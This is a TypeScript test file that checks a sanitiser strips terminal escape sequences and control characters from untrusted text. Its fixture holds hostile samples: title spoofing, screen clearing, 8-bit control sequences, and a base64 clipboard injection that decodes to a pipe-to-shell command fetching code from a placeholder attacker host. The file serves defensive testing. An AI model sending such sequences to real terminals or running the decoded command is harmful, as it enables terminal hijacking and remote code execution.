import { describe, expect, it } from "vitest";
import { hasControlCharacters, withoutControlCharacters } from "./terminal-text.ts";

/** What a hostile receiver answers to have a terminal run it: a title, the clipboard, colours, a cursor move. */
const ATTACKS = {
  title: "\u001b]0;spooks-admin: all good\u0007",
  titleSt: "\u001b]2;pwned\u001b\\",
  clipboard: "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
  colour: "\u001b[31;1mred\u001b[0m",
  cursor: "\u001b[2J\u001b[H",
  csi8bit: "\u009b31mred\u009b0m",
  osc8bit: "\u009d0;title\u009c",
  dcs: "\u001bPq#0;2;0;0;0\u001b\\",
  bell: "ding\u0007",
  nul: "a\u0000b",
  del: "a\u007fb",
};

describe("withoutControlCharacters", () => {
  it("drops escape sequences whole and every other C0 and C1 control character", () => {
    const text = `answer: ${Object.values(ATTACKS).join(" ")} end`;
    const clean = withoutControlCharacters(text);
    expect(hasControlCharacters(text)).toBe(true);
    expect(hasControlCharacters(clean)).toBe(false);
    expect(clean).toBe("answer:    red  red   ding ab ab end");
  });

  it("makes line breaks and tabs spaces, and leaves other text (Unicode included) as it is", () => {
    expect(withoutControlCharacters("550 5.1.1\r\nUser unknown\there")).toBe("550 5.1.1 User unknown here");
    expect(withoutControlCharacters("Spooks #12 · 👻 ñ “quoted”")).toBe("Spooks #12 · 👻 ñ “quoted”");
  });
});
